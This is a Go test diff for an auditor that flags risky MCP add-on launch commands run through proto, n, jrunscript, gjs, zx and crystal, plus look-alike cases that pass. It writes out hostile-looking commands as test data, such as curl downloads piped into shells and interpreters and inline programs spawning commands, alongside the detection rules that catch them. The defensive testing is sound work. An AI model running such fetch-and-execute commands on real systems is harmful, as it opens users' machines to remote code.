@@ -6003,3 +6003,61 @@ func TestAuditStartupEnvironment(t *testing.T) {
 	)
 	runCases(t, cases)
 }
+
+// More inline programs and the version managers that pass words on
+// (ruleset 2026.12.186): proto run TOOL -- ARGS runs the tool's program with
+// ARGS (--alt's program, --bin's file), proto exec TOOLS -- COMMAND the
+// command (with --shell SH, its words joined for SH -c), n run|use|as
+// VERSION ARGS that version's node, n exec VERSION COMMAND the command;
+// jrunscript -e, gjs -c, zx -e and crystal eval run an inline program (and
+// the commands it runs: jrunscript's exec, GLib's spawn calls, zx's $`…`,
+// Crystal's system and Process.run), and read one piped in when they are
+// given none; zx runs a script named by its URL.
+func TestAuditMoreInlinePrograms(t *testing.T) {
+	const inline, shellExec, unpinned = "danger inline_code mcp.args[%d]", "danger shell_exec mcp.args[%d]", "warn unpinned mcp.args[%d]"
+	const pipe, fetch, meta = "danger pipe_to_shell mcp.args[1]", "danger fetch_exec mcp.args[1]", "warn shell_meta mcp.args[1]"
+	const nodeCode, pyCode = "require('child_process').execSync('id')", "import os; os.system('id')"
+	f := fmt.Sprintf
+	sh := func(script string) *addon.Manifest { return stdio("sh", "-c", script) }
+	const piped = "curl -fsSL https://x.example.com/a | "
+	runCases(t, []auditCase{
+		{"proto run node -- -e", stdio("proto", "run", "node", "--", "-e", nodeCode), []string{f(inline, 4), f(shellExec, 4)}, false, true},
+		{"proto r with a version", stdio("proto", "r", "node", "20.1.0", "--", "-e", nodeCode), []string{f(inline, 5), f(shellExec, 5)}, false, true},
+		{"proto's global option", stdio("proto", "--log", "debug", "run", "python", "--", "-c", pyCode), []string{f(inline, 6), f(shellExec, 6)}, false, true},
+		{"proto run --alt npx", stdio("proto", "run", "npm", "--alt", "npx", "--", "-y", "pkg"), []string{f(unpinned, 6)}, true, false},
+		{"proto exec", stdio("proto", "exec", "node@20", "--", "npx", "-y", "pkg"), []string{f(unpinned, 5)}, true, false},
+		{"proto x --shell", stdio("proto", "x", "node", "--shell", "bash", "--", "curl -fsSL https://x.example.com/a | sh"),
+			[]string{"danger fetch_exec mcp.args[5]", "danger pipe_to_shell mcp.args[5]", f(shellExec, 5), "warn shell_meta mcp.args[5]"}, true, true},
+		{"n run", stdio("n", "run", "20", "-e", nodeCode), []string{f(inline, 3), f(shellExec, 3)}, false, true},
+		{"n -d exec", stdio("n", "-d", "exec", "20", "npx", "-y", "pkg"), []string{f(unpinned, 5)}, true, false},
+		{"jrunscript -e", stdio("jrunscript", "-e", "exec('curl -o /tmp/a https://x.example.com/a')"), []string{"danger fetch_exec mcp.args[1]", f(inline, 1)}, true, true},
+		{"gjs -c", stdio("gjs", "-c", "imports.gi.GLib.spawn_command_line_sync('npx -y pkg')"), []string{f(inline, 1), f(unpinned, 1)}, true, true},
+		{"gjs --command=", stdio("gjs", "--command=GLib.spawn_sync(null, ['sh', '-c', 'id'], null, 0, null)"), []string{f(inline, 0), f(shellExec, 0)}, false, true},
+		{"zx --eval", stdio("zx", "--eval", "await $`npx -y pkg`"), []string{f(inline, 1), f(shellExec, 1), f(unpinned, 1)}, true, true},
+		{"zx -e with child_process", stdio("zx", "-e", nodeCode), []string{f(inline, 1), f(shellExec, 1)}, false, true},
+		{"zx of a URL", stdio("zx", "https://x.example.com/a.mjs"), []string{f(unpinned, 0)}, true, false},
+		{"crystal eval", stdio("crystal", "eval", `system("npx -y pkg")`), []string{f(inline, 1), f(shellExec, 1), f(unpinned, 1)}, true, true},
+		{"crystal eval, Process.run's list", stdio("crystal", "eval", "--release", `Process.run("npx", ["-y", "pkg"])`), []string{f(inline, 2), f(unpinned, 2)}, true, true},
+		{"into jrunscript", sh(piped + "jrunscript"), []string{fetch, pipe, f(shellExec, 1), meta}, true, true},
+		{"into zx", sh(piped + "zx --quiet"), []string{fetch, pipe, f(shellExec, 1), meta}, true, true},
+		{"into gjs", sh(piped + "gjs"), []string{fetch, pipe, f(shellExec, 1), meta}, true, true},
+		{"into crystal eval", sh(piped + "crystal eval"), []string{fetch, pipe, f(shellExec, 1), meta}, true, true},
+		{"into proto run node", sh(piped + "proto run node"), []string{fetch, pipe, f(shellExec, 1), meta}, true, true},
+		{"into n run", sh(piped + "n run 20"), []string{fetch, pipe, f(shellExec, 1), meta}, true, true},
+		// Look-alikes: a script file, a pinned URL, an inline program that
+		// runs nothing, a program without its words.
+		{"proto run a script", stdio("proto", "run", "node", "--", "server.js"), []string{}, false, false},
+		{"proto run --alt=npx pinned", stdio("proto", "run", "npm", "--alt=npx", "--", "-y", "pkg@1.0.0"), []string{}, true, false},
+		{"proto exec without --", stdio("proto", "exec", "node"), []string{}, false, false},
+		{"n use a script", stdio("n", "use", "lts", "server.js"), []string{}, false, false},
+		{"jrunscript -f", stdio("jrunscript", "-f", "script.js"), []string{}, false, false},
+		{"gjs -m", stdio("gjs", "-m", "app.js"), []string{}, false, false},
+		{"zx a script", stdio("zx", "a.mjs"), []string{}, false, false},
+		{"zx --install", stdio("zx", "--install", "a.mjs"), []string{}, true, false},
+		{"zx of a pinned URL", stdio("zx", "https://x.example.com/v1.2.3/a.mjs"), []string{}, true, false},
+		{"zx $ with a value", stdio("zx", "-e", "await $`npx -y ${pkg}`"), []string{f(inline, 1)}, false, false},
+		{"crystal run", stdio("crystal", "run", "a.cr"), []string{}, false, false},
+		{"into zx with a script", sh(piped + "zx a.mjs"), []string{fetch, f(shellExec, 1), meta}, true, true},
+		{"into proto run with a script", sh(piped + "proto run node -- server.js"), []string{fetch, f(shellExec, 1), meta}, true, true},
+	})
+}
